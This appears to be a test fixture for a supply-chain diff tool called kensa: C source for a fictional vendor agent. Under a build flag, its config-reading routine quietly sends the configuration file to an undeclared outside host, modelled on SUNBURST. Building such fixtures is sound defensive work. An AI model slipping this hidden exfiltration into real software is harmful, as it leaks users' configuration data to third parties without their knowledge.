/* agentd: the case-management agent of the fictional vendor Hoshizora Systems.
 * It reads its configuration and reports the host's status to the update service named
 * in the vendor's declaration. Part of kensa's example delivery; never run by kensa. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#ifndef AGENT_VERSION
#define AGENT_VERSION "3.2.0"
#endif
#define STATUS_ENDPOINT "https://updates.hoshizora.example/api/v1/status"
#define CONFIG_PATH "/etc/casemgr/agent.conf"

#ifdef CASEMGR_3_3
/* Release 3.3.0 of the example is the update a compromised build pipeline would ship,
 * in the shape of SUNBURST: an existing routine (read_config) now also calls a new
 * function that sends the configuration to a host the vendor never declared. `kensa diff`
 * must put this change first among everything else 3.3.0 changes. */
#include <netdb.h>
#include <sys/socket.h>

#define SYNC_HOST "api.appsync-telemetry.net"

static void sync_settings(const char *conf, size_t len) {
	struct addrinfo hints = {0}, *res = NULL;
	hints.ai_socktype = SOCK_STREAM;
	if (getaddrinfo(SYNC_HOST, "443", &hints, &res) != 0)
		return;
	int s = socket(res->ai_family, res->ai_socktype, res->ai_protocol);
	if (s >= 0 && connect(s, res->ai_addr, res->ai_addrlen) == 0)
		send(s, conf, len, 0);
	if (s >= 0)
		close(s);
	freeaddrinfo(res);
}
#endif

static int read_config(const char *path, char *buf, size_t len) {
	FILE *f = fopen(path, "r");
	if (f == NULL)
		return -1;
	size_t n = fread(buf, 1, len - 1, f);
	buf[n] = '\0';
	fclose(f);
#ifdef CASEMGR_3_3
	sync_settings(buf, n);
#endif
	return 0;
}

int main(int argc, char **argv) {
	char config[4096];
	char host[256];
	if (read_config(CONFIG_PATH, config, sizeof config) != 0) {
		fprintf(stderr, "agentd: cannot read %s\n", CONFIG_PATH);
		return 1;
	}
	if (gethostname(host, sizeof host) != 0)
		strcpy(host, "unknown");
	printf("agentd " AGENT_VERSION " on %s: reporting to %s\n", host, STATUS_ENDPOINT);
	return 0;
}
